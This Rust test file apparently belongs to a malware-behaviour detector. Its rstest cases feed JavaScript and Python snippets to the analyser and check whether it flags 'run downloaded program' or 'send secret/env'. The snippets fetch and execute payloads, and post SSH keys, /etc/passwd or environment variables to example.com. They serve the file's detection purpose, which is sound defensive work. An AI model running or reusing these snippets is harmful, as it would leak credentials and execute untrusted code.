//! Data that goes on without a value of its own: streams into files and requests, copies of files, archives.

use cerebro::behavior::Feature;
use rstest::rstest;

use super::steps;

#[rstest]
#[case::piped(
    "index.js",
    "const fs = require('fs'), cp = require('child_process'); require('https').get('https://example.com/x', r => { const f = fs.createWriteStream('/tmp/x'); r.pipe(f); f.on('finish', () => cp.exec('/tmp/x')) })",
    Feature::RunDownloaded,
    "run downloaded program",
    true
)]
#[case::pipeline(
    "index.js",
    "const fs = require('fs'), cp = require('child_process'), { pipeline } = require('stream/promises'); (async () => { const r = await fetch('https://example.com/x'); await pipeline(r.body, fs.createWriteStream('/tmp/x')); cp.exec('chmod +x /tmp/x && /tmp/x') })()",
    Feature::RunDownloaded,
    "run downloaded program",
    true
)]
#[case::piped_elsewhere(
    "index.js",
    "const fs = require('fs'), cp = require('child_process'); fs.createReadStream('a').pipe(fs.createWriteStream('/tmp/x')); cp.exec('/tmp/x')",
    Feature::RunDownloaded,
    "",
    false
)]
#[case::file_to_request(
    "index.js",
    "require('fs').createReadStream(require('os').homedir() + '/.ssh/id_rsa').pipe(require('https').request('https://example.com', { method: 'POST' }))",
    Feature::SendData,
    "send secret",
    true
)]
#[case::reader(
    "index.js",
    "require('fs').readFile('/etc/passwd', (e, d) => require('https').request('https://example.com', { method: 'POST' }).end(d))",
    Feature::SendData,
    "send secret",
    true
)]
#[case::form(
    "index.js",
    "const f = new FormData(); f.append('e', JSON.stringify(process.env)); fetch('https://example.com', { method: 'POST', body: f })",
    Feature::SendData,
    "send env",
    true
)]
#[case::code_address(
    "index.js",
    "(async () => import('data:text/javascript,' + encodeURIComponent(await (await fetch('https://example.com')).text())))()",
    Feature::RunDownloaded,
    "run downloaded code",
    true
)]
#[case::by_command(
    "index.js",
    "require('child_process').spawn('curl', ['-d', JSON.stringify(process.env), 'https://example.com'])",
    Feature::SendData,
    "send env",
    true
)]
#[case::copied_object(
    "a.py",
    "import urllib.request, shutil, os\nwith urllib.request.urlopen('https://example.com/x') as r, open('/tmp/x', 'wb') as f: shutil.copyfileobj(r, f)\nos.system('/tmp/x')",
    Feature::RunDownloaded,
    "run downloaded program",
    true
)]
#[case::extracted(
    "a.py",
    "import requests, zipfile, io, os\nzipfile.ZipFile(io.BytesIO(requests.get('https://example.com/a').content)).extractall('/tmp/q')\nos.system('/tmp/q/x')",
    Feature::RunDownloaded,
    "run downloaded program",
    true
)]
#[case::beside_extracted(
    "a.py",
    "import requests, zipfile, io, os\nzipfile.ZipFile(io.BytesIO(requests.get('https://example.com/a').content)).extractall('/tmp/q')\nos.system('/tmp/other/x')",
    Feature::RunDownloaded,
    "",
    false
)]
#[case::copied_secret(
    "a.py",
    "import shutil, os, requests\nshutil.copy(os.path.expanduser('~/.ssh/id_rsa'), '/tmp/l')\nrequests.post('https://example.com', files={'f': open('/tmp/l', 'rb')})",
    Feature::SendData,
    "send secret",
    true
)]
#[case::copied_other(
    "a.py",
    "import shutil, requests\nshutil.copy('report.txt', '/tmp/l')\nrequests.post('https://example.com', files={'f': open('/tmp/l', 'rb')})",
    Feature::SendData,
    "send secret",
    false
)]
fn what_a_source_holds_is_in_the_target(
    #[case] path: &str,
    #[case] source: &str,
    #[case] feature: Feature,
    #[case] detail: &str,
    #[case] expected: bool,
) {
    let steps = steps(path, source);
    let found = steps.iter().any(|step| step.feature == feature && step.detail.contains(detail));
    assert_eq!(found, expected, "{steps:#?}");
}
